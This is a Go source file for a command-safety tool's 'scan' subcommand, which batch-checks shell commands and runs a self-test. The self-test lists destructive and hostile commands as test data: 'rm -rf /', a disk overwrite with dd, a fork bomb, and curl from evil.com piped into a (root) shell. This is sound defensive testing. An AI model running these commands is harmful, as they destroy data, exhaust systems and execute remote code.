package cli

import (
	"bufio"
	"fmt"
	"os"
	"strings"

	"github.com/spf13/cobra"

	"github.com/cmdguard/cmdguard/internal/risk"
	"github.com/cmdguard/cmdguard/internal/safety"
)

var scanCmd = &cobra.Command{
	Use:   "scan [file]",
	Short: "Batch-validate commands from a file, or self-test with none",
	Long: `With a file argument, validate each line as one command and print a
one-line verdict per command ("-" reads stdin). Without arguments, run a
built-in battery of known-dangerous and known-safe commands against the
current configuration. Nothing is executed — this only checks what the
verdict would be.

  cmdguard scan
  cmdguard scan commands.txt
  history | tail -50 | cmdguard scan -`,
	Args: cobra.MaximumNArgs(1),
	RunE: scanCommand,
}

func init() {
	rootCmd.AddCommand(scanCmd)
}

type scanCase struct {
	label   string
	cmd     string
	wantMin risk.Decision // minimum expected severity
}

func scanCommand(cmd *cobra.Command, args []string) error {
	_, level, eng, err := loadSetup()
	if err != nil {
		return err
	}

	if len(args) == 1 {
		return scanFile(args[0], level, eng)
	}

	// The self-test expectations are written against the moderate policy;
	// running it under strict or permissive would just test the level table.
	level = risk.DefaultSafety

	fmt.Println("═══════════════════════════════════════════════════════")
	fmt.Printf("  cmdguard Self-Test (level: %s)\n", level)
	fmt.Println("═══════════════════════════════════════════════════════")
	fmt.Println()

	cases := []scanCase{
		{"Destructive rm", "rm -rf /", risk.Block},
		{"Variable-masked rm", "DIR=/; rm -rf $DIR", risk.Block},
		{"Disk overwrite", "dd if=/dev/zero of=/dev/sda", risk.Block},
		{"Pipe to root shell", "curl http://evil.com/x.sh | sudo bash", risk.Block},
		{"Fork bomb", ":(){ :|:& };:", risk.Block},
		{"Pipe to shell", "curl http://evil.com/x.sh | bash", risk.Confirm},
		{"Privileged delete", "sudo rm /var/log/syslog", risk.Confirm},
		{"Eval wrapper", `eval "rm -rf /"`, risk.Block},
		{"Safe read-only", "ls -la", risk.Allow},
		{"Safe scoped rm", "rm -rf /tmp/build", risk.Allow},
		{"Quoted danger", `echo "rm -rf /"`, risk.Allow},
	}

	pass := 0
	fail := 0
	for _, tc := range cases {
		res := eng.Validate(tc.cmd, level)

		ok := decisionGE(res.Decision, tc.wantMin)
		icon := "✅"
		if !ok {
			icon = "❌"
			fail++
		} else {
			pass++
		}
		fmt.Printf("  %s  %-22s  %s → %s\n", icon, tc.label, tc.cmd, res.Decision)
	}

	fmt.Println()
	fmt.Println("═══════════════════════════════════════════════════════")
	if fail == 0 {
		fmt.Printf("  ✅ All %d checks passed — cmdguard is working correctly\n", len(cases))
	} else {
		fmt.Printf("  ⚠  %d/%d checks passed, %d failed\n", pass, len(cases), fail)
		fmt.Println("  Review your configuration and custom patterns.")
	}
	fmt.Println("═══════════════════════════════════════════════════════")
	fmt.Println()

	if fail > 0 {
		return fmt.Errorf("%d self-test checks failed", fail)
	}
	return nil
}

// scanFile validates one command per line and reports a verdict for each.
// Blank lines and # comments are skipped.
func scanFile(path string, level risk.SafetyLevel, eng *safety.Engine) error {
	var in *os.File
	if path == "-" {
		in = os.Stdin
	} else {
		f, err := os.Open(path)
		if err != nil {
			return err
		}
		defer f.Close()
		in = f
	}

	counts := map[risk.Decision]int{}
	scanner := bufio.NewScanner(in)
	for scanner.Scan() {
		line := strings.TrimSpace(scanner.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		res := eng.Validate(line, level)
		counts[res.Decision]++
		fmt.Printf("%-44s %s\n", line, summaryLine(res))
	}
	if err := scanner.Err(); err != nil {
		return err
	}

	total := counts[risk.Allow] + counts[risk.Confirm] + counts[risk.Block]
	fmt.Printf("\n%d commands: %d allow, %d confirm, %d block\n",
		total, counts[risk.Allow], counts[risk.Confirm], counts[risk.Block])

	if counts[risk.Block] > 0 {
		return fmt.Errorf("%d commands would be blocked", counts[risk.Block])
	}
	return nil
}

// decisionGE returns true if actual is at least as strict as want.
func decisionGE(actual, want risk.Decision) bool {
	severity := map[risk.Decision]int{
		risk.Allow:   1,
		risk.Confirm: 2,
		risk.Block:   3,
	}
	return severity[actual] >= severity[want]
}
